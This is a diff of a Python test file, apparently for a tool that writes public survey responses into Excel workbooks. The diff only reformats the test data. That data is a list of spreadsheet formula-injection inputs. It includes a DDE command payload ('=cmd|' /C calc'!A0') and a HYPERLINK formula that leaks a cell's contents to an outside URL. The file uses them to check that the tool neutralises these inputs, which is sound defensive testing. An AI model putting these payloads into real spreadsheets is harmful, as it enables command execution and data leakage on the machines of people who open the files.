@@ -18,23 +18,9 @@ from tests.cases.small import row, small_run
 pytestmark = pytest.mark.libreoffice
 
 FORMULAS = (
-    '=HYPERLINK("http://exemple.org/?"&A1;"ici")',
-    "=1+1",
-    "+1+1",
-    "-1+1",
-    "@SUM(A1:A9)",
-    "=cmd|' /C calc'!A0",
-    "\t=1+1",
-    "'=1+1",
-    "#N/A",
-    "#REF!",
-    "_x003D_1+1",
-    "http://exemple.org",
-    "2022-03-14",
-    "12:30",
-    "1E5",
-    "0012",
-    "{=1+1}",
+    *('=HYPERLINK("http://exemple.org/?"&A1;"ici")', "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)"),
+    *("=cmd|' /C calc'!A0", "\t=1+1", "'=1+1", "#N/A", "#REF!", "_x003D_1+1", "{=1+1}"),
+    *("http://exemple.org", "2022-03-14", "12:30", "1E5", "0012"),
 )
 MOST_PAGES = 15
 BOOKMARK = re.compile(rb"/Title<FEFF([0-9A-F]+)>\s*/Dest\[(\d+) 0 R")
@@ -103,10 +89,7 @@ def acting_parts(paths: list[Path], folder: Path) -> list[str]:
 
 
 WORKBOOKS = (
-    "synthese.xlsx",
-    "a-decider.xlsx",
-    "justificatif.xlsx",
-    "a-coder.xlsx",
+    *("synthese.xlsx", "a-decider.xlsx", "justificatif.xlsx", "a-coder.xlsx"),
     "confidentiel/contacts.xlsx",
 )
 
@@ -122,19 +105,9 @@ def test_every_cell_of_the_workbooks_is_read_as_it_was_written(release, tmp_path
 
 @pytest.mark.slow
 def test_what_strangers_typed_never_acts(tmp_path):
+    names = ("Texte", "Autre_raison", "Nom", "Collectif", "Commune", "Téléphone", "Mode")
     rows = [
-        row(
-            sid,
-            Texte=text,
-            Autre_raison=text,
-            Nom=text,
-            Collectif=text,
-            Commune=text,
-            Téléphone=text,
-            Mode=text,
-            Code_postal=text,
-            Envoi="Oui, en mon nom",
-        )
+        row(sid, Envoi="Oui, en mon nom", **dict.fromkeys((*names, "Code_postal"), text))
         for sid, text in enumerate(FORMULAS, start=1)
     ]
     run = small_run(tmp_path / "run", *rows)
@@ -195,13 +168,7 @@ def test_the_workbook_prints_on_few_pages(release, tmp_path):
     pages = pages_of(release / "synthese.xlsx", tmp_path)
 
     # The others say that they print on none.
-    assert list(pages) == [
-        "Lisez-moi",
-        "Chiffres clés",
-        "Questions",
-        "Participation",
-        "Graphiques",
-        "Notes",
-    ]
+    printed = ("Lisez-moi", "Chiffres clés", "Questions", "Participation", "Graphiques", "Notes")
+    assert tuple(pages) == printed
     assert pages["Lisez-moi"] <= 2  # the steps of a full export are told where one is wanted
     assert sum(pages.values()) <= MOST_PAGES
